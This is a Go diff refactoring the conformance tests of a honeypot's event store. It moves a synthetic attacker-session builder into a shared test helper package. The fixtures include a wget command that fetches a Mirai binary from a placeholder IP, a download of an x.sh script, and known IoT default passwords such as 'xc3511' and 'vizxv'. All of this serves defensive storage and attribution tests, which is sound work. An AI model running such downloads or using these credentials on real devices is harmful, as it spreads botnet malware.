@@ -22,6 +22,7 @@ import (
 
 	"github.com/honeygate/honeygate/internal/event"
 	"github.com/honeygate/honeygate/internal/store"
+	"github.com/honeygate/honeygate/internal/testkit/eventkit"
 )
 
 // RunEvents runs the conformance suite of store.Events. open must return a
@@ -76,76 +77,6 @@ func RunEvents(t *testing.T, open func(t *testing.T) store.Events) {
 
 // t0 is the start of the synthetic attack; a fixed UTC time keeps days stable.
 var t0 = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
-
-// attacker builds the events of one session with deterministic ids
-// ("<session>-0001", ...), so tests can name and order them.
-type attacker struct {
-	session, srcIP   string
-	srcPort, dstPort int
-	start            time.Time
-	seq              int
-}
-
-func newAttacker(session, srcIP string, dstPort int, start time.Time) *attacker {
-	return &attacker{session: session, srcIP: srcIP, srcPort: 40000 + len(session), dstPort: dstPort, start: start}
-}
-
-// ev returns an event of kind at start+at, with the session's common fields.
-func (a *attacker) ev(kind event.Kind, at time.Duration) event.Event {
-	a.seq++
-	return event.Event{
-		ID:      fmt.Sprintf("%s-%04d", a.session, a.seq),
-		Time:    a.start.Add(at),
-		Kind:    kind,
-		Sensor:  "sensor-1",
-		Proto:   "telnet",
-		SrcIP:   a.srcIP,
-		SrcPort: a.srcPort,
-		DstPort: a.dstPort,
-		Session: a.session,
-	}
-}
-
-func (a *attacker) connect(at time.Duration) event.Event { return a.ev(event.SessionConnect, at) }
-
-func (a *attacker) login(at time.Duration, user string, pass *string, ok bool) event.Event {
-	e := a.ev(event.LoginFailed, at)
-	if ok {
-		e.Kind = event.LoginSuccess
-	}
-	e.Username = event.Text(user)
-	if pass != nil {
-		p := event.Text(*pass)
-		e.Password = &p
-	}
-	return e
-}
-
-func (a *attacker) command(at time.Duration, input string) event.Event {
-	e := a.ev(event.CommandInput, at)
-	e.Input, e.Output = event.Text(input), "ok"
-	return e
-}
-
-func (a *attacker) download(at time.Duration, url, tool, filename string) event.Event {
-	e := a.ev(event.FileDownload, at)
-	e.URL, e.Tool, e.Filename = event.Text(url), event.Text(tool), event.Text(filename)
-	return e
-}
-
-func (a *attacker) attributed(at time.Duration, family string, reasons ...string) event.Event {
-	e := a.ev(event.SessionAttributed, at)
-	e.Family, e.Reasons = family, reasons
-	return e
-}
-
-func (a *attacker) closed(at time.Duration, family string) event.Event {
-	e := a.ev(event.SessionClosed, at)
-	e.Family, e.Duration, e.Bytes, e.Message = family, at.Seconds(), 1234, "client closed"
-	return e
-}
-
-func ptr(s string) *string { return &s }
 
 // appendOK appends evs and fails the test on error.
 func appendOK(t *testing.T, s store.Events, evs ...event.Event) []event.Event {
@@ -224,25 +155,24 @@ func reversed(evs []event.Event) []event.Event {
 }
 
 func testRoundTrip(t *testing.T, s store.Events) {
-	a := newAttacker("rt", "203.0.113.7", 23, t0)
-	size := a.ev(event.ClientSize, 1*time.Second)
-	size.Width, size.Height = 80, 24
-	panicked := a.ev(event.SessionPanic, 9*time.Second)
+	a := eventkit.New("rt", "203.0.113.7", 23, t0)
+	size := a.Size(1*time.Second, 80, 24)
+	panicked := a.Event(event.SessionPanic, 9*time.Second)
 	panicked.Message = "runtime error: index out of range"
-	dl := a.download(7*time.Second, "http://198.51.100.1/bins/mirai.arm7", "wget", "/tmp/m")
+	dl := a.Download(7*time.Second, "http://198.51.100.1/bins/mirai.arm7", "wget", "/tmp/m")
 	dl.Input = "wget http://198.51.100.1/bins/mirai.arm7 -O /tmp/m"
 	evs := []event.Event{
-		a.connect(0),
+		a.Connect(0),
 		size,
-		a.login(2*time.Second, "root", nil, false),
-		a.login(3*time.Second, "admin", ptr(""), false),
-		a.login(4*time.Second, "root", ptr("xc3511"), true),
-		a.command(5*time.Second, "enable"),
-		a.command(6*time.Second, "cat /proc/cpuinfo | grep 'ü'"),
+		a.LoginNoPassword(2*time.Second, "root", false),
+		a.Login(3*time.Second, "admin", "", false),
+		a.Login(4*time.Second, "root", "xc3511", true),
+		a.Command(5*time.Second, "enable", "ok"),
+		a.Command(6*time.Second, "cat /proc/cpuinfo | grep 'ü'", "ok"),
 		dl,
-		a.attributed(8*time.Second, "mirai", "busybox MIRAI", "xc3511"),
+		a.Attributed(8*time.Second, "mirai", "busybox MIRAI", "xc3511"),
 		panicked,
-		a.closed(10*time.Second, "mirai"),
+		a.Closed(10*time.Second, "mirai"),
 	}
 	sameEvents(t, "inserted", appendOK(t, s, evs...), evs)
 
@@ -262,13 +192,13 @@ func testRoundTrip(t *testing.T, s store.Events) {
 
 func testIdempotent(t *testing.T, s store.Events) {
 	ctx := context.Background()
-	a := newAttacker("idem-a", "192.0.2.1", 23, t0)
-	b := newAttacker("idem-b", "192.0.2.2", 2323, t0.Add(time.Minute))
+	a := eventkit.New("idem-a", "192.0.2.1", 23, t0)
+	b := eventkit.New("idem-b", "192.0.2.2", 2323, t0.Add(time.Minute))
 	first := []event.Event{
-		a.connect(0),
-		a.login(time.Second, "root", ptr("root"), true),
-		a.command(2*time.Second, "sh"),
-		a.closed(3*time.Second, ""),
+		a.Connect(0),
+		a.Login(time.Second, "root", "root", true),
+		a.Command(2*time.Second, "sh", "ok"),
+		a.Closed(3*time.Second, ""),
 	}
 	sameEvents(t, "first append", appendOK(t, s, first...), first)
 	statsBefore, err := s.DailyStats(ctx, t0, t0)
@@ -279,7 +209,7 @@ func testIdempotent(t *testing.T, s store.Events) {
 	if got := appendOK(t, s, first...); len(got) != 0 {
 		t.Errorf("appending the same batch again inserted %v, want nothing", ids(got))
 	}
-	fresh := []event.Event{b.connect(0), b.login(time.Second, "guest", ptr("guest"), false)}
+	fresh := []event.Event{b.Connect(0), b.Login(time.Second, "guest", "guest", false)}
 	overlap := append(slices.Clone(first[2:]), fresh[0], first[0], fresh[1], fresh[0])
 	sameEvents(t, "overlapping append", appendOK(t, s, overlap...), fresh)
 
@@ -306,21 +236,21 @@ func testIdempotent(t *testing.T, s store.Events) {
 func testFilters(t *testing.T, s store.Events) {
 	var all []event.Event
 	for i, ip := range []string{"198.51.100.1", "198.51.100.2", "198.51.100.3"} {
-		a := newAttacker(fmt.Sprintf("flt-%d", i), ip, 23, t0.Add(time.Duration(i)*time.Minute))
+		a := eventkit.New(fmt.Sprintf("flt-%d", i), ip, 23, t0.Add(time.Duration(i)*time.Minute))
 		family := []string{"", "mirai", "gafgyt"}[i]
-		all = append(all, a.connect(0))
+		all = append(all, a.Connect(0))
 		for j := range 40 {
-			e := a.command(time.Duration(j+1)*time.Second, fmt.Sprintf("echo %d", j))
+			e := a.Command(time.Duration(j+1)*time.Second, fmt.Sprintf("echo %d", j), "ok")
 			if j >= 10 {
 				e.Family = family // as a sensor tags events once the family is known
 			}
 			all = append(all, e)
 		}
-		all = append(all, a.closed(50*time.Second, family))
+		all = append(all, a.Closed(50*time.Second, family))
 	}
 	// Same time: newest-first order falls back to id, descending.
-	tie := newAttacker("flt-tie", "198.51.100.9", 23, t0.Add(time.Hour))
-	all = append(all, tie.connect(0), tie.command(0, "x"))
+	tie := eventkit.New("flt-tie", "198.51.100.9", 23, t0.Add(time.Hour))
+	all = append(all, tie.Connect(0), tie.Command(0, "x", "ok"))
 	appendOK(t, s, all...)
 
 	at := func(i int) time.Time { return all[i].Time }
@@ -374,20 +304,20 @@ func testFilters(t *testing.T, s store.Events) {
 }
 
 func testSessionDerivation(t *testing.T, s store.Events) {
-	a := newAttacker("derive", "203.0.113.50", 2323, t0)
+	a := eventkit.New("derive", "203.0.113.50", 2323, t0)
 	appendOK(t, s,
-		a.connect(0),
-		a.login(1*time.Second, "root", ptr(""), false),
-		a.login(2*time.Second, "root", ptr("vizxv"), true),
-		a.command(3*time.Second, "enable"),
-		a.command(4*time.Second, "/bin/busybox MIRAI"),
-		a.download(5*time.Second, "http://198.51.100.7/x.sh", "wget", "x.sh"),
+		a.Connect(0),
+		a.Login(1*time.Second, "root", "", false),
+		a.Login(2*time.Second, "root", "vizxv", true),
+		a.Command(3*time.Second, "enable", "ok"),
+		a.Command(4*time.Second, "/bin/busybox MIRAI", "ok"),
+		a.Download(5*time.Second, "http://198.51.100.7/x.sh", "wget", "x.sh"),
 		// Two verdicts in one batch: the later in time wins, not the later in the batch.
-		a.attributed(7*time.Second, "mirai", "busybox MIRAI"),
-		a.attributed(6*time.Second, "gafgyt", "x.sh"),
+		a.Attributed(7*time.Second, "mirai", "busybox MIRAI"),
+		a.Attributed(6*time.Second, "gafgyt", "x.sh"),
 	)
 	// An older verdict in a later batch does not win either.
-	appendOK(t, s, a.attributed(6500*time.Millisecond, "tsunami", "old"))
+	appendOK(t, s, a.Attributed(6500*time.Millisecond, "tsunami", "old"))
 	got := sessionOK(t, s, "derive")
 	if got.Family != "mirai" || !slices.Equal(got.Reasons, []string{"busybox MIRAI"}) {
 		t.Errorf("family %q reasons %q, want mirai [busybox MIRAI]", got.Family, got.Reasons)
@@ -397,10 +327,10 @@ func testSessionDerivation(t *testing.T, s store.Events) {
 	}
 
 	// The close repeats the final family without reasons: the reasons stay.
-	appendOK(t, s, a.closed(10*time.Second, "mirai"))
+	appendOK(t, s, a.Closed(10*time.Second, "mirai"))
 	got = sessionOK(t, s, "derive")
 	want := store.Session{
-		ID: "derive", Sensor: "sensor-1", Proto: "telnet", SrcIP: "203.0.113.50", SrcPort: a.srcPort, DstPort: 2323,
+		ID: "derive", Sensor: eventkit.DefaultSensor, Proto: "telnet", SrcIP: "203.0.113.50", SrcPort: a.SrcPort, DstPort: 2323,
 		Start: t0, Family: "mirai", Reasons: []string{"busybox MIRAI"},
 		Credentials: []store.Credential{
 			{Time: t0.Add(1 * time.Second), Username: "root", Password: "", Success: false},
@@ -421,30 +351,30 @@ func testSessionDerivation(t *testing.T, s store.Events) {
 	}
 
 	// Without any verdict, the family the events carry stands, the latest winning.
-	b := newAttacker("weak", "203.0.113.51", 23, t0)
-	c1, c2 := b.command(2*time.Second, "a"), b.command(1*time.Second, "b")
+	b := eventkit.New("weak", "203.0.113.51", 23, t0)
+	c1, c2 := b.Command(2*time.Second, "a", "ok"), b.Command(1*time.Second, "b", "ok")
 	c1.Family, c2.Family = "mirai", "gafgyt"
-	appendOK(t, s, b.connect(0), c1, c2)
-	c3 := b.command(1500*time.Millisecond, "c") // older, in a later batch
+	appendOK(t, s, b.Connect(0), c1, c2)
+	c3 := b.Command(1500*time.Millisecond, "c", "ok") // older, in a later batch
 	c3.Family = "tsunami"
 	appendOK(t, s, c3)
 	if got := sessionOK(t, s, "weak"); got.Family != "mirai" {
 		t.Errorf("family from events = %q, want mirai", got.Family)
 	}
-	appendOK(t, s, b.attributed(500*time.Millisecond, "hajime", "r"))
+	appendOK(t, s, b.Attributed(500*time.Millisecond, "hajime", "r"))
 	if got := sessionOK(t, s, "weak"); got.Family != "hajime" || !slices.Equal(got.Reasons, []string{"r"}) {
 		t.Errorf("after a verdict: family %q reasons %q, want hajime [r]", got.Family, got.Reasons)
 	}
 
 	// The same holds within one batch.
-	c := newAttacker("onebatch", "203.0.113.53", 23, t0)
-	appendOK(t, s, c.connect(0), c.attributed(time.Second, "mirai", "r1"), c.closed(2*time.Second, "mirai"))
+	c := eventkit.New("onebatch", "203.0.113.53", 23, t0)
+	appendOK(t, s, c.Connect(0), c.Attributed(time.Second, "mirai", "r1"), c.Closed(2*time.Second, "mirai"))
 	if got := sessionOK(t, s, "onebatch"); got.Family != "mirai" || !slices.Equal(got.Reasons, []string{"r1"}) {
 		t.Errorf("verdict then close in one batch: family %q reasons %q, want mirai [r1]", got.Family, got.Reasons)
 	}
 
 	// A bare session still encodes its lists as [], never null.
-	appendOK(t, s, newAttacker("bare", "203.0.113.52", 23, t0).connect(0))
+	appendOK(t, s, eventkit.New("bare", "203.0.113.52", 23, t0).Connect(0))
 	js := jsonOf(t, sessionOK(t, s, "bare"))
 	for _, field := range []string{`"reasons":[]`, `"credentials":[]`, `"commands":[]`, `"downloads":[]`, `"family":""`} {
 		if !strings.Contains(js, field) {
@@ -463,7 +393,7 @@ func jsonOf(t *testing.T, v any) string {
 }
 
 func testSessionNotFound(t *testing.T, s store.Events) {
-	appendOK(t, s, newAttacker("known", "192.0.2.9", 23, t0).connect(0))
+	appendOK(t, s, eventkit.New("known", "192.0.2.9", 23, t0).Connect(0))
 	got, err := s.Session(context.Background(), "unknown")
 	if !errors.Is(err, store.ErrNotFound) {
 		t.Errorf("Session(unknown) = %v, %v; want ErrNotFound", got, err)
@@ -473,11 +403,11 @@ func testSessionNotFound(t *testing.T, s store.Events) {
 // A redelivery may bring a session's events before its connect: the session
 // exists from its first event, and the connect then fixes its start.
 func testLateConnect(t *testing.T, s store.Events) {
-	a := newAttacker("late", "192.0.2.77", 23, t0)
-	connect := a.connect(0)
-	appendOK(t, s, a.command(3*time.Second, "uname -a"))
+	a := eventkit.New("late", "192.0.2.77", 23, t0)
+	connect := a.Connect(0)
+	appendOK(t, s, a.Command(3*time.Second, "uname -a", "ok"))
 	// An earlier event in a later batch moves the provisional start back.
-	appendOK(t, s, a.login(2*time.Second, "root", ptr("1234"), true))
+	appendOK(t, s, a.Login(2*time.Second, "root", "1234", true))
 	got := sessionOK(t, s, "late")
 	if !got.Start.Equal(t0.Add(2*time.Second)) || got.SrcIP != "192.0.2.77" || got.DstPort != 23 {
 		t.Errorf("before connect: start %v src %s port %d; want %v 192.0.2.77 23", got.Start, got.SrcIP, got.DstPort, t0.Add(2*time.Second))
@@ -523,15 +453,15 @@ func testDailyStats(t *testing.T, s store.Events) {
 	}
 	var evs []event.Event
 	for i, x := range sessions {
-		a := newAttacker(fmt.Sprintf("day-%d", i), x.ip, x.port, x.start)
-		evs = append(evs, a.connect(0))
+		a := eventkit.New(fmt.Sprintf("day-%d", i), x.ip, x.port, x.start)
+		evs = append(evs, a.Connect(0))
 		switch {
 		case x.family != "" && x.byCl:
-			evs = append(evs, a.closed(time.Minute, x.family))
+			evs = append(evs, a.Closed(time.Minute, x.family))
 		case x.family != "":
-			evs = append(evs, a.attributed(time.Second, x.family, "rule"), a.closed(time.Minute, ""))
+			evs = append(evs, a.Attributed(time.Second, x.family, "rule"), a.Closed(time.Minute, ""))
 		default:
-			evs = append(evs, a.closed(time.Minute, ""))
+			evs = append(evs, a.Closed(time.Minute, ""))
 		}
 	}
 	appendOK(t, s, evs...)
@@ -578,10 +508,10 @@ func testDeadLetter(t *testing.T, s store.Events) {
 func testConcurrentAppend(t *testing.T, s store.Events) {
 	const workers, batches, perBatch, shared = 4, 8, 40, 10
 	ctx := context.Background()
-	common := newAttacker("shared", "192.0.2.200", 23, t0)
-	sharedEvs := []event.Event{common.connect(0)}
+	common := eventkit.New("shared", "192.0.2.200", 23, t0)
+	sharedEvs := []event.Event{common.Connect(0)}
 	for i := 1; i < shared; i++ {
-		sharedEvs = append(sharedEvs, common.command(time.Duration(i)*time.Second, "id"))
+		sharedEvs = append(sharedEvs, common.Command(time.Duration(i)*time.Second, "id", "ok"))
 	}
 
 	var mu sync.Mutex
@@ -591,11 +521,11 @@ func testConcurrentAppend(t *testing.T, s store.Events) {
 	for w := range workers {
 		wg.Go(func() {
 			for b := range batches {
-				a := newAttacker(fmt.Sprintf("w%d-b%d", w, b), fmt.Sprintf("192.0.2.%d", w), 23, t0.Add(time.Duration(b)*time.Minute))
+				a := eventkit.New(fmt.Sprintf("w%d-b%d", w, b), fmt.Sprintf("192.0.2.%d", w), 23, t0.Add(time.Duration(b)*time.Minute))
 				batch := slices.Clone(sharedEvs)
-				batch = append(batch, a.connect(0))
+				batch = append(batch, a.Connect(0))
 				for len(batch) < perBatch {
-					batch = append(batch, a.command(time.Duration(len(batch))*time.Second, "x"))
+					batch = append(batch, a.Command(time.Duration(len(batch))*time.Second, "x", "ok"))
 				}
 				ins, err := s.AppendEvents(ctx, batch)
 				if err != nil {
@@ -648,24 +578,22 @@ func testConcurrentAppend(t *testing.T, s store.Events) {
 // those, oldest first.
 func testOpenSessions(t *testing.T, s store.Events) {
 	ctx := context.Background()
-	closed := newAttacker("closed", "192.0.2.1", 23, t0)
-	open := newAttacker("open-early", "192.0.2.2", 23, t0.Add(time.Minute))
-	older := newAttacker("open-older", "192.0.2.5", 2323, t0)
-	other := newAttacker("other-sensor", "192.0.2.3", 23, t0)
-	late := newAttacker("open-late", "192.0.2.4", 23, t0.Add(2*time.Hour))
-	o := other.connect(0)
-	o.Sensor = "sensor-2"
+	closed := eventkit.New("closed", "192.0.2.1", 23, t0)
+	open := eventkit.New("open-early", "192.0.2.2", 23, t0.Add(time.Minute))
+	older := eventkit.New("open-older", "192.0.2.5", 2323, t0)
+	other := eventkit.New("other-sensor", "192.0.2.3", 23, t0, eventkit.Sensor("sensor-2"))
+	late := eventkit.New("open-late", "192.0.2.4", 23, t0.Add(2*time.Hour))
 	evs := []event.Event{
-		closed.connect(0), closed.command(time.Second, "id"), closed.closed(2*time.Second, "unknown"),
-		open.connect(0), open.command(time.Second, "id"),
-		older.connect(0),
-		o,
-		late.connect(0),
+		closed.Connect(0), closed.Command(time.Second, "id", "ok"), closed.Closed(2*time.Second, "unknown"),
+		open.Connect(0), open.Command(time.Second, "id", "ok"),
+		older.Connect(0),
+		other.Connect(0),
+		late.Connect(0),
 	}
 	if _, err := s.AppendEvents(ctx, evs); err != nil {
 		t.Fatal(err)
 	}
-	got, err := s.OpenSessions(ctx, "sensor-1", t0.Add(time.Hour), 10)
+	got, err := s.OpenSessions(ctx, eventkit.DefaultSensor, t0.Add(time.Hour), 10)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -679,7 +607,7 @@ func testOpenSessions(t *testing.T, s store.Events) {
 	if want := []string{"open-older", "open-early"}; !slices.Equal(ids, want) {
 		t.Errorf("open sessions %v, want %v", ids, want)
 	}
-	if got, _ := s.OpenSessions(ctx, "sensor-1", t0.Add(time.Hour), 1); len(got) != 1 {
+	if got, _ := s.OpenSessions(ctx, eventkit.DefaultSensor, t0.Add(time.Hour), 1); len(got) != 1 {
 		t.Errorf("limit 1: %d sessions", len(got))
 	}
 }
